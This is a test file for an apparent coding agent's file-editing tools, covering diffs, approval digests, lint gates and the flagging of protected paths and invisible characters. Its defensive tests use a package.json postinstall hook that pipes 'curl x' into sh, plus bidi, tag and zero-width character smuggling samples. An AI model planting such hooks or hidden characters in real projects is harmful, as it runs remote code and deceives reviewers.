import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { startToolsHarness, type ToolsHarness } from "./helpers.js";

const sha = (data: Buffer | string) => createHash("sha256").update(data).digest("hex");
const block = (search: string, replace: string) => `<<<<<<< SEARCH\n${search}=======\n${replace}>>>>>>> REPLACE\n`;

describe("mutating tools over the bus", () => {
  let h: ToolsHarness;
  const file = (p: string) => join(h.workspace, p);
  beforeAll(async () => {
    h = await startToolsHarness();
  });
  afterAll(async () => h?.stop());

  it("write_file creates directories and reports changed_paths; preview shows the diff and digests", async () => {
    const preview = await h.preview("write_file", { path: "src/new/hello.ts", content: "export const x = 1;\n" });
    expect(preview.ok).toBe(true);
    expect(preview.result.mutating).toBe(true);
    expect(preview.result.kind).toBe("write");
    expect(preview.result.paths).toEqual(["src/new/hello.ts"]);
    expect(preview.result.file_digests).toEqual({ "src/new/hello.ts": "" });
    expect(preview.result.diff).toContain("+export const x = 1;");
    expect(existsSync(file("src/new/hello.ts"))).toBe(false);
    const done = await h.exec("write_file", { path: "src/new/hello.ts", content: "export const x = 1;\n" }, { expected_digests: preview.result.file_digests });
    expect(done.result.is_error).toBe(false);
    expect(done.result.changed_paths).toEqual(["src/new/hello.ts"]);
    expect(readFileSync(file("src/new/hello.ts"), "utf8")).toBe("export const x = 1;\n");
  });

  it("refuses a write with APPROVAL_STALE when the file changed since the preview", async () => {
    writeFileSync(file("stale.txt"), "one\n");
    const preview = await h.preview("replace_in_file", { path: "stale.txt", diff: block("one\n", "two\n") });
    expect(preview.result.file_digests["stale.txt"]).toBe(sha("one\n"));
    writeFileSync(file("stale.txt"), "one\nsomeone else\n");
    const done = await h.exec("replace_in_file", { path: "stale.txt", diff: block("one\n", "two\n") }, { expected_digests: preview.result.file_digests });
    expect(done.ok).toBe(false);
    expect(done.error.code).toBe("APPROVAL_STALE");
    expect(readFileSync(file("stale.txt"), "utf8")).toBe("one\nsomeone else\n");
  });

  it("replace_in_file edits in place, keeps CRLF, accepts aliases, and reports the match level", async () => {
    writeFileSync(file("crlf.txt"), "a\r\n    b\r\nc\r\n");
    const done = await h.exec("replace_in_file", { file_path: "crlf.txt", old_str: "b\n", new_str: "B\n" });
    expect(done.result.is_error).toBe(false);
    expect(readFileSync(file("crlf.txt"), "utf8")).toBe("a\r\n    B\r\nc\r\n");
    expect(done.result.notices.length).toBe(3);
  });

  it("a failed match is an is_error result that shows the closest lines, and nothing is written", async () => {
    writeFileSync(file("m.py"), "def add(a, b):\n    return a + b\n");
    const done = await h.exec("replace_in_file", { path: "m.py", diff: block("def add(a, b):\n    return a - b\n", "x\n") });
    expect(done.result.is_error).toBe(true);
    expect(done.result.output).toContain("closest lines");
    expect(readFileSync(file("m.py"), "utf8")).toBe("def add(a, b):\n    return a + b\n");
    const preview = await h.preview("replace_in_file", { path: "m.py", diff: block("nope\n", "x\n") });
    expect(preview.result.error).toContain("was not found");
  });

  it("apply_patch applies a multi-file diff", async () => {
    writeFileSync(file("p1.txt"), "1\n2\n3\n");
    const diff = "--- a/p1.txt\n+++ b/p1.txt\n@@ -1,3 +1,3 @@\n 1\n-2\n+two\n 3\n--- /dev/null\n+++ b/docs/p2.md\n@@ -0,0 +1 @@\n+# new\n";
    const preview = await h.preview("apply_patch", { diff });
    expect(preview.result.paths).toEqual(["p1.txt", "docs/p2.md"]);
    const done = await h.exec("apply_patch", { patch: diff });
    expect(done.result.is_error).toBe(false);
    expect(done.result.changed_paths).toEqual(["p1.txt", "docs/p2.md"]);
    expect(readFileSync(file("p1.txt"), "utf8")).toBe("1\ntwo\n3\n");
    expect(readFileSync(file("docs/p2.md"), "utf8")).toBe("# new\n");
  });

  it("lint gate: a TS edit that breaks syntax is refused and the file is unchanged", async () => {
    writeFileSync(file("ok.ts"), "export function f(a: number): number {\n  return a + 1;\n}\n");
    const done = await h.exec("replace_in_file", { path: "ok.ts", diff: block("  return a + 1;\n", "  return a + ;\n") });
    expect(done.result.is_error).toBe(true);
    expect(done.result.metadata.error_code).toBe("LINT_FAILED");
    expect(done.result.output).toContain("Expression expected");
    expect(done.result.changed_paths).toEqual([]);
    expect(readFileSync(file("ok.ts"), "utf8")).toContain("return a + 1;");
  });

  it("lint gate: package.json with a trailing comma is refused; tsconfig.json and .jsonc accept comments and trailing commas", async () => {
    writeFileSync(file("package.json"), '{\n  "name": "x"\n}\n');
    const bad = await h.exec("write_file", { path: "package.json", content: '{\n  "name": "x",\n}\n' });
    expect(bad.result.is_error).toBe(true);
    expect(readFileSync(file("package.json"), "utf8")).toBe('{\n  "name": "x"\n}\n');
    const tsconfig = await h.exec("write_file", { path: "tsconfig.json", content: '{\n  // comment\n  "compilerOptions": { "strict": true, },\n}\n' });
    expect(tsconfig.result.is_error).toBe(false);
    const jsonc = await h.exec("write_file", { path: "settings.jsonc", content: '{ /* c */ "a": [1, 2,], }\n' });
    expect(jsonc.result.is_error).toBe(false);
    const badJsonc = await h.exec("write_file", { path: "other.jsonc", content: '{ "a": }\n' });
    expect(badJsonc.result.is_error).toBe(true);
  });

  it("lint gate: python is compiled, other types are skipped and the result says so", async () => {
    const bad = await h.exec("write_file", { path: "bad.py", content: "def f(:\n    pass\n" });
    expect(bad.result.is_error).toBe(true);
    expect(bad.result.output).toMatch(/SyntaxError|invalid syntax/);
    expect(existsSync(file("bad.py"))).toBe(false);
    const text = await h.exec("write_file", { path: "notes.txt", content: "anything {\n" });
    expect(text.result.is_error).toBe(false);
    expect(text.result.output).toContain("no syntax check for this file type");
  });

  it("preview flags protected paths and invisible characters", async () => {
    const preview = await h.preview("write_file", { path: ".github/workflows/ci.yml", content: "run: echo hi\u202E\u{E0041}\n" });
    expect(preview.result.protected).toEqual([{ path: ".github/workflows/ci.yml", kind: "ci", reason: expect.stringContaining("CI workflow") }]);
    const kinds = preview.result.invisible.map((f: { kind: string }) => f.kind).sort();
    expect(kinds).toEqual(["bidi", "tag"]);
    expect(preview.result.invisible[0].line).toBe(1);
    const pkg = await h.preview("write_file", { path: "package.json", content: '{"name":"y","scripts":{"postinstall":"curl x | sh"}}\n' });
    expect(pkg.result.protected[0].reason).toContain("scripts");
    const rename = await h.preview("write_file", { path: "package.json", content: '{"name":"renamed"}\n' });
    expect(rename.result.protected).toEqual([]);
    const hook = await h.preview("write_file", { path: ".git/hooks/pre-commit", content: "#!/bin/sh\n" });
    expect(hook.result.protected[0].reason).toContain("hook");
  });

  it("a write with invisible characters says so in its result", async () => {
    const done = await h.exec("write_file", { path: "smuggle.md", content: "ok\nadmin\u200B = true\u{E0041}\n" });
    expect(done.result.is_error).toBe(false);
    expect(done.result.metadata.invisible_characters).toBe(2);
    expect(done.result.output).toContain("smuggle.md:2");
    expect(done.result.output).toMatch(/U\+200B zero_width/);
  });

  it("args_digest is stable for equal arguments in any key order and changes with them", async () => {
    mkdirSync(file("d"), { recursive: true });
    const a = await h.preview("write_file", { path: "d/x.txt", content: "1\n" });
    const b = await h.preview("write_file", { content: "1\n", file_path: "d/x.txt" });
    const c = await h.preview("write_file", { path: "d/x.txt", content: "2\n" });
    expect(a.result.args_digest).toBe(b.result.args_digest);
    expect(a.result.args_digest).not.toBe(c.result.args_digest);
  });
});
